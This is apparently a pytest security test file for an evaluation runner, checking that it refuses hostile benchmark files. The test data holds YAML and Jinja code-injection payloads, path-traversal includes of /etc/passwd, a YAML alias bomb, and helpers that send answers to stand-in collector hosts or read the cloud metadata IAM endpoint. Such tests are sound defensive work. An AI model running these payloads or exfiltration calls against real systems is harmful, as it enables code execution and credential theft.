"""A hostile benchmark: task files, scorers and weights of somebody whom nobody has read."""

from __future__ import annotations

import asyncio
import json
import socket
import time
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import boto3
import pytest
import requests
from attacks import BENCHMARK, Gets, attack

from evalrun_api.digests import digest
from evalrun_api.errors import EvalrunError, Refused
from evalrun_api.plan import CustomBenchmark
from evalrun_api.reading import parse_manifests
from evalrun_runner.harness import egress
from evalrun_runner.places import Places, include_folder

pytestmark = [pytest.mark.runner, pytest.mark.filterwarnings("ignore")]

TASK = "task: shapes\ntest_split: test\n"


def included(folder: Path, text: str, **files: str) -> Path:
    """What the runner does with a benchmark's files in a run without the key for code."""
    files = {"shapes.yaml": text, **files}
    there = folder / "benchmarks" / "shapes"
    there.mkdir(parents=True)
    for name, content in files.items():
        (there / name).write_text(content)
    benchmark = CustomBenchmark(name="shapes", digest=digest(files), tasks=["shapes"])
    places = Places(work=folder / "work", spool=folder / "spool", benchmarks=folder / "benchmarks")
    return include_folder(benchmark, places, allow_code=False)


@attack(42, BENCHMARK, "hides code from the operator: in the runner it is looked for again")
@pytest.mark.parametrize(
    "line",
    [
        "doc_to_text: !function utils.text",
        "doc_to_text: !funct%69on utils.text",
        "doc_to_text: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
        "doc_to_text: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"",
        "doc_to_text: '{% for x in ().__class__.__bases__[0].__subclasses__() %}{% endfor %}'",
        "metric_list: [{metric: ../evil.py}]",
        "metric_list: [{metric: evil, hf_evaluate: true}]",
    ],
    ids=["function", "encoded-tag", "python-tag", "template", "block", "metric", "hub-metric"],
)
def test_code_in_task_files_is_found_again(gets: Gets, tmp_path: Path, line: str) -> None:
    assert included(tmp_path / "plain", TASK).is_dir()
    with pytest.raises(EvalrunError, match="brings Python code") as caught:
        included(tmp_path / "code", f"{TASK}{line}\n")
    assert "spec.security.allowCodeExecution" in str(caught.value)
    assert not (tmp_path / "code" / "work").exists()
    gets(caught.value)


@attack(43, BENCHMARK, "changes between the admission of a run and its pods")
def test_files_that_are_not_the_plan_s_are_not_used(gets: Gets, tmp_path: Path) -> None:
    folder = tmp_path / "benchmarks" / "shapes"
    folder.mkdir(parents=True)
    (folder / "shapes.yaml").write_text(TASK)
    benchmark = CustomBenchmark(name="shapes", digest="0" * 64, tasks=["shapes"])
    places = Places(work=tmp_path, spool=tmp_path, benchmarks=tmp_path / "benchmarks")
    with pytest.raises(EvalrunError, match="are not those of the plan") as caught:
        include_folder(benchmark, places, allow_code=True)
    gets(caught.value)


@attack(44, BENCHMARK, "includes files of the machine, or grows by aliases to billions of nodes")
@pytest.mark.parametrize(
    "text",
    [
        f"{TASK}include: ../../etc/passwd\n",
        f"{TASK}include: /etc/passwd\n",
        TASK
        + "a: &a [x, x, x, x, x, x, x, x, x]\n"
        + "".join(
            f"{n}: &{n} [{', '.join([f'*{b}'] * 9)}]\n"
            for b, n in zip("abcdefghi", "bcdefghij", strict=True)
        ),
    ],
    ids=["include", "absolute", "aliases"],
)
def test_files_reach_no_others_and_do_not_grow(gets: Gets, text: str) -> None:
    manifest = {
        "apiVersion": "lmms-eval.io/v1alpha1",
        "kind": "Benchmark",
        "metadata": {"name": "shapes"},
        "spec": {"tasks": ["shapes"], "files": {"shapes.yaml": text}},
    }
    began = time.monotonic()
    if "include" in text:
        with pytest.raises(Refused, match="include names") as caught:
            parse_manifests(json.dumps(manifest), "benchmark.yaml")
        gets(caught.value)
    else:
        (found,) = parse_manifests(json.dumps(manifest), "benchmark.yaml")
        (why,) = found.spec.task_files.unreadable.values()  # and so the run is refused
        gets(f"it cannot be read as YAML: {why}")
    assert time.monotonic() - began < 2


class Plan:
    """As much of a RunPlan as decides what may be reached."""

    judge = None

    class security:  # noqa: N801
        allow_online = False


def by_urllib() -> None:
    urllib.request.urlopen("http://collector.example.com/answers", timeout=5)


def by_requests() -> None:
    requests.post("https://collector.example.com/", json={"answers": []}, timeout=5)


def by_socket() -> None:
    socket.create_connection(("192.0.2.7", 443), timeout=5)


def by_datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
        plain.sendto(b"answers", ("192.0.2.7", 53))


def by_name() -> None:
    socket.gethostbyname("answers.collector.example.com")


def by_asyncio() -> None:
    async def scene() -> None:
        await asyncio.open_connection("192.0.2.7", 443)

    asyncio.run(scene())


def to_metadata() -> None:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/", timeout=5)


def by_store_credentials() -> None:
    made = boto3.client(
        "s3",
        endpoint_url="http://store.example.com:9000",
        region_name="us-east-1",
        aws_access_key_id="a",
        aws_secret_access_key="b",
    )
    made.list_buckets()


@attack(45, BENCHMARK, "sends documents and answers away while it scores, and hides the error")
@pytest.mark.parametrize(
    "reach",
    [
        by_urllib,
        by_requests,
        by_socket,
        by_datagram,
        by_name,
        by_asyncio,
        to_metadata,
        by_store_credentials,
    ],
)
def test_a_scorer_reaches_nothing_that_is_not_declared(
    gets: Gets, reach: Callable[[], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    plan: Any = Plan()
    began = time.monotonic()
    with egress.closed(plan) as gate:
        with suppress(Exception):  # as a scorer does that then counts the answer as wrong
            reach()
        with pytest.raises(EvalrunError) as caught:
            gate.check()
    assert time.monotonic() - began < 10, "it was tried again and again"
    assert "spec.security.allowOnline" in str(caught.value)
    gets(caught.value)


def test_what_is_declared_stays_in_reach_and_all_of_it_with_the_key() -> None:
    plan: Any = Plan()
    with socket.create_server(("127.0.0.1", 0)) as server, egress.closed(plan) as gate:
        socket.create_connection(server.getsockname(), timeout=5).close()
        socket.getaddrinfo("localhost", 80)
        gate.check()
        assert gate._is_declared("cdn-lfs.hf.co")
        assert not gate._is_declared("evilhf.co")
    plan.security.allow_online = True
    try:
        with egress.closed(plan) as gate, socket.socket(type=socket.SOCK_DGRAM) as plain:
            with suppress(OSError):  # of a machine without a network
                plain.connect(("192.0.2.7", 9))  # a datagram's: nothing is sent
            gate.check()
    finally:
        plan.security.allow_online = False


CODE = """
from pathlib import Path
from transformers import PretrainedConfig

Path(__file__).with_name("RAN").touch()

class OwnConfig(PretrainedConfig):
    model_type = "nobodys-own"
"""


@attack(46, BENCHMARK, "brings Python with weights, which a backend trusts in its own code")
def test_the_code_of_weights_does_not_run(
    gets: Gets, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from transformers import AutoConfig, dynamic_module_utils

    from evalrun_runner.harness.remote_code import guard

    monkeypatch.setattr(dynamic_module_utils, "HF_MODULES_CACHE", str(tmp_path / "modules"))
    weights = tmp_path / "weights"
    weights.mkdir()
    config = {"model_type": "nobodys-own", "auto_map": {"AutoConfig": "own.OwnConfig"}}
    (weights / "config.json").write_text(json.dumps(config))
    (weights / "own.py").write_text(CODE)
    guard(allowed=False)
    try:
        with pytest.raises(EvalrunError, match=r"spec\.security\.trustRemoteCode") as caught:
            AutoConfig.from_pretrained(weights, trust_remote_code=True)
    finally:
        guard(allowed=True)
    assert not list(tmp_path.rglob("RAN"))
    gets(caught.value)
